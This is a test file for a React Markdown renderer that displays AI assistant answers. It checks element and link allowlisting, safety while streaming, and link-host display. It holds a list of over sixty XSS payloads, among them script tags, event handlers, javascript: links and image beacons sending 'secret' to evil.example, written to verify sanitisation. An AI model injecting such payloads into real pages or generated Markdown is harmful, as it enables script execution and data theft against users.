import { render } from '@testing-library/react';
import { Markdown } from './Markdown';

function html(text: string, streaming = false): string {
  return render(<Markdown text={text} streaming={streaming} />).container.firstElementChild!.innerHTML;
}

function textOf(text: string): string {
  return render(<Markdown text={text} streaming={false} />).container.textContent;
}

const ELEMENTS = new Set(('DIV P H4 BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD PRE CODE HR STRONG EM DEL BR A SPAN BDI').split(' '));
const ATTRIBUTES = new Set(['class', 'dir', 'tabindex', 'start', 'align']);
const LINK_ATTRIBUTES = new Set(['href', 'target', 'rel', 'referrerpolicy']);

/** Everything in the tree that is not on the list of what an answer may consist of. */
function dangers(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(ELEMENTS.has(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].filter(({ name, value }) => (
      element.tagName === 'A' && LINK_ATTRIBUTES.has(name)
        ? name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)
        : !ATTRIBUTES.has(name))).map(({ name, value }) => `${element.tagName} ${name}=${value}`),
    ...(element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer nofollow' ? ['a link without rel'] : []),
    ...(element.tagName === 'A' && element.querySelector('a') ? ['a link in a link'] : []),
  ]);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?q=secret">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=https://evil.example autoplay>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="https://evil.example">',
  '<form action=https://evil.example><input name=x></form>',
  '<style>@import url(https://evil.example)</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a <b onmouseover=alert(1)>b</b>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '![x](https://evil.example/p.png?d=secret)',
  '![x][ref]\n\n[ref]: https://evil.example/p.png',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](https://evil.example)',
  '[![x](https://evil.example/i.png)](https://evil.example)',
  '[*![x](https://evil.example/i.png)*](https://evil.example)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&#115;cript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/logout)',
  '[x](https://lms.example@evil.example/)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]: javascript:alert(1)\n\n[r]',
  '<javascript:alert(1)>',
  '[x](https://evil.example "t\\" onmouseover=\\"alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[a](https://a.example)[b](javascript:alert(1))',
  '# <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|-|-|\n| <svg onload=alert(1)> | ![x](https://evil.example) |',
  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '~~<img src=x onerror=alert(1)>~~ **<svg onload=alert(1)>** _<b onclick=alert(1)>_',
  '[\u202Egpj.elpmaxe.live](https://evil.example)',
  '<scr\u200Bipt>alert(1)</scr\u200Bipt>',
  '[x](javascript\u200B:alert(1))',
];

test('there are enough of them', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(40));

test.each(HOSTILE)('%j comes out harmless', (text) => {
  const { container } = render(<Markdown text={text} streaming={false} />);
  expect(dangers(container)).toEqual([]);
});

test('at no point of a stream is any of them harmful', () => {
  for (const text of HOSTILE) {
    const { container, rerender, unmount } = render(<Markdown text="" streaming />);
    for (let end = 0; end <= text.length; end += 1) {
      rerender(<Markdown text={text.slice(0, end)} streaming />);
      expect(dangers(container)).toEqual([]);
    }
    unmount();
  }
});

test('a stream ends as if its text had come at once', () => {
  const text = [
    'See [the notes][n] and *more*.', '- one\n- two\n\n  still two', '```js\nlet a;\n\nlet b;\n```', '> quote\nlazy', '| a |\n|-|\n| b |',
    'Title\n===', '1. x\n\n2. y', '    code', '---', ...HOSTILE, '[n]: https://notes.example',
  ].join('\n\n');
  const { container, rerender } = render(<Markdown text="" streaming />);
  for (let end = 0; end <= text.length; end += 7) {
    rerender(<Markdown text={text.slice(0, end)} streaming />);
  }
  rerender(<Markdown text={text} streaming={false} />);
  expect(container.firstElementChild!.innerHTML).toBe(html(text));
  expect(container.querySelector('a')).toHaveAttribute('href', 'https://notes.example/');
});

test('an appended stream leaves finished blocks alone', () => {
  const { container, rerender } = render(<Markdown text={'one\n\ntwo\n\nthree'} streaming />);
  const first = container.querySelector('p')!;
  first.dataset.seen = 'yes';
  rerender(<Markdown text={'one\n\ntwo\n\nthree\n\nfour\n\nfi'} streaming />);
  expect(container.querySelector('p')).toBe(first);
  expect(container.textContent).toBe('onetwothreefourfi');
  rerender(<Markdown text="other" streaming />);
  expect(container.textContent).toBe('other');
});

test('what answers are made of has its element', () => {
  expect(html('# A\n\n### B')).toBe('<h4 class="mcp-assistant-md__heading-1">A</h4><h4 class="mcp-assistant-md__heading-3">B</h4>');
  expect(html('**a** *b* ~~c~~ `d`  \ne')).toBe('<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code><br>e</p>');
  expect(html('3. a\n4. b')).toBe('<ol start="3"><li>a</li><li>b</li></ol>');
  expect(html('- [x] a\n- [ ] b')).toBe('<ul><li class="mcp-assistant-md__task">☑ a</li><li class="mcp-assistant-md__task">☐ b</li></ul>');
  expect(html('> a\n\n---')).toBe('<blockquote><p>a</p></blockquote><hr>');
  expect(html('```js\nlet a = "<b>";\n```')).toBe('<pre class="mcp-assistant-md__scroll" tabindex="0"><code>let a = "&lt;b&gt;";</code></pre>');
  expect(html('| a | b |\n|:-:|-|\n| c | d |')).toBe(
    '<div class="mcp-assistant-md__scroll" tabindex="0"><table><thead><tr><th align="center">a</th><th>b</th></tr></thead>'
    + '<tbody><tr><td align="center">c</td><td>d</td></tr></tbody></table></div>',
  );
});

test('a link says where it leads', () => {
  const attributes = 'target="_blank" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer"';
  expect(html('[notes](https://bücher.example/a?b=1)')).toBe(
    `<p><a href="https://xn--bcher-kva.example/a?b=1" ${attributes}>notes</a>`
    + '<span class="mcp-assistant-md__where"> (<bdi>xn--bcher-kva.example</bdi>)</span></p>',
  );
  expect(html('https://a.example/x?y=1&copy=2')).toBe(`<p><a href="https://a.example/x?y=1&amp;copy=2" ${attributes}>https://a.example/x?y=1&amp;copy=2</a></p>`);
  expect(html('[us](mailto:us@a.example)')).toContain('(<bdi>us@a.example</bdi>)');
  expect(textOf('![a &amp; b](https://a.example/i.png) ![](https://a.example/j.png)')).toBe('a & b (a.example) https://a.example/j.png');
});

test('character references and escapes are the characters they stand for, once', () => {
  expect(textOf('&amp;lt; &copy; &#x1F600; &hearts; \\&amp; &nosuch; `&amp;`')).toBe('&lt; © 😀 ♥ &amp; &nosuch; &amp;');
});

test('text nested too deep for the lexer or the page is still there', () => {
  expect(textOf(`${'> '.repeat(60)}deep`)).toContain('deep');
  expect(textOf(`${'>'.repeat(20_000)}deep`)).toContain('deep');
});
